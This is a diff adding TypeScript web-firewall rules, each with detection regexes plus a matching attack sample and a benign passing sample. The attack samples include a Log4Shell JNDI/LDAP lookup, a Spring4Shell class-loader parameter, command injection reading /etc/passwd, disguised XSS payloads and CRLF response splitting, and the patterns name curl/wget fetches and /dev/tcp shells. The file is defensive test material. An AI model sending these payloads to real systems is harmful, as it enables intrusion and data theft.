@@ -1,0 +1,106 @@
+// Rules that came with the new managed ruleset: the previous product has none like them.
+import { expression, newRules, pattern } from './rule-draft.ts'
+import { ATTRIBUTE, COMMAND, EVERYWHERE, INPUT_AND_HEADERS, MARKUP, TEXT, URI } from './views.ts'
+
+const JSON_POST = { method: 'POST', headers: { 'content-type': 'application/json' } }
+
+export const NEWER_RULES = newRules([
+  {
+    ids: ['7097d16620e0f14e69518bc12eadae8c', '27c246a793a6f168bfe3c5904d509487'],
+    description: 'Log4j - Look-up of a name in a logged text - CVE-2021-44228',
+    tags: ['log4j', 'rce', 'cve-2021-44228'],
+    mode: 'block',
+    detection: pattern(
+      EVERYWHERE,
+      TEXT,
+      String.raw`\$\{ ?jndi ?:`,
+      String.raw`\$\{[^}]{0,60}\$\{[^}]{0,80}\}[^}]{0,60}(?:j|n|d|i|ldap|rmi|dns)`,
+      String.raw`\$\{(?:lower|upper|env|sys|date|main|::-|[a-z]{0,12}:[^}]{0,30}:-)[^}]{0,40}\}[^/]{0,80}(?:ldap|rmi|dns|iiop|corba|nis)s?[:}]`,
+    ),
+    matching: { headers: { 'x-api-version': '${${lower:j}ndi:${lower:l}dap://192.0.2.66/a}' } },
+    passing: { target: '/render?template=Hello+${user.name},+you+owe+${amount}' },
+  },
+  {
+    ids: ['d85adcbb0d750bfa5537f9badf6545fe', 'f0628b62b85f9367e55cf48a33aa5ef9'],
+    description: 'Spring - Class loader reached through data binding - CVE-2022-22965',
+    tags: ['spring', 'rce', 'cve-2022-22965'],
+    mode: 'block',
+    detection: pattern(
+      ['arg-names'],
+      TEXT,
+      String.raw`class(?:\.|\[['"]?)module(?:\.|['"]?\]\.?|\[)['"]?classloader`,
+      String.raw`^class\.(?:classloader|protectiondomain)`,
+    ),
+    matching: {
+      target: '/greeting?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x',
+    },
+    passing: { target: '/courses?class.module=4&class.name=algebra' },
+  },
+  {
+    ids: ['63d63b65d184c230780b0d68477b401e', '490a2ef61d80511047134137ba5ebeef'],
+    description: 'Shell - Well-known command with its usual arguments after a separator',
+    tags: ['rce', 'command-injection'],
+    mode: 'block',
+    detection: pattern(
+      INPUT_AND_HEADERS,
+      COMMAND,
+      String.raw`(?:[;|&\n]|\$\(|\()\s*(?:/(?:usr/)?s?bin/)?(?:cat|head|tail|more|less|nl|tac) +(?:/etc/|/proc/|/var/|\.\./|/root/|/home/)`,
+      String.raw`(?:[;|&\n]|\$\()\s*(?:/(?:usr/)?bin/)?(?:wget|curl|fetch) +(?:-[a-z]+ +){0,4}(?:https?|ftp)://\S+`,
+      String.raw`/dev/(?:tcp|udp)/[0-9a-z.-]+/\d+`,
+    ),
+    matching: { target: '/ping?host=127.0.0.1;c%27a%27t${IFS}/etc/passwd' },
+    passing: { target: '/search?q=cat+food;+dog+food+%26+toys' },
+  },
+  {
+    ids: ['310a947531cb1a196442852092afcbbf', '4a8af84c26a9da4f07153f442c2158eb'],
+    description: 'XSS - Script scheme in an attribute value, disguised',
+    tags: ['xss'],
+    mode: 'block',
+    detection: pattern(
+      INPUT_AND_HEADERS,
+      ATTRIBUTE,
+      String.raw`(?:href|src|action|formaction|data|xlink:href|background|poster|to|from|values)=["'\x60]?(?:javascript|vbscript|livescript):`,
+      String.raw`url\(["']?(?:javascript|vbscript):`,
+      String.raw`^["']?(?:javascript|vbscript):[^/]{0,200}[(\x60=]`,
+      String.raw`data:text/(?:html|xml)[^,]{0,40},`,
+    ),
+    matching: { target: '/go?u=%3Ca+href=%22jav%26%23x09;ascript:alert(1)%22%3Ex' },
+    passing: { ...JSON_POST, body: '{"text":"What is JavaScript: a short introduction (part 1)"}' },
+  },
+  {
+    ids: ['f3c201b7fd0d4e0fc92ebb4991396dd4', '4382d84097b6f23c23653fa91dc8698c'],
+    description: 'XSS - Element that runs a script at once',
+    tags: ['xss'],
+    mode: 'block',
+    detection: pattern(
+      INPUT_AND_HEADERS,
+      MARKUP,
+      String.raw`<script[\s/>]`,
+      String.raw`<svg[^>]{0,200}[\s/]on[a-z]{3,24} ?=`,
+    ),
+    matching: { target: '/search?q=%3Cscript%3Ealert(1)%3C/script%3E' },
+    passing: { target: '/search?q=%3Cscripted+dialogue%3E' },
+  },
+  {
+    ids: ['a57c5ae6d6a397cb151ef7055fd83fc8', '7d92c903d14eb461e11e263621dc3135'],
+    description: 'URI - Line feed that would begin a header of the response',
+    tags: ['http-response-splitting'],
+    mode: 'block',
+    detection: pattern(
+      URI,
+      TEXT,
+      String.raw`%0[ad]|[\r\n ](?:set-cookie|location|content-(?:type|length)|transfer-encoding) ?:`,
+    ),
+    matching: { target: '/go?to=/%0d%0aSet-Cookie:%20a=1' },
+    passing: { target: '/docs/set-cookie?section=location' },
+  },
+  {
+    ids: ['e67712641e557294e10f7782b9b553e9', 'b18f19298ee68d1552958caf6acc2c3d'],
+    description: 'Request target that is longer than any page needs',
+    tags: ['request-limit'],
+    mode: 'simulate',
+    detection: expression('len(raw.http.request.uri) gt 8192'),
+    matching: { target: `/?q=${'a'.repeat(8200)}` },
+    passing: { target: `/?q=${'a'.repeat(2000)}` },
+  },
+])
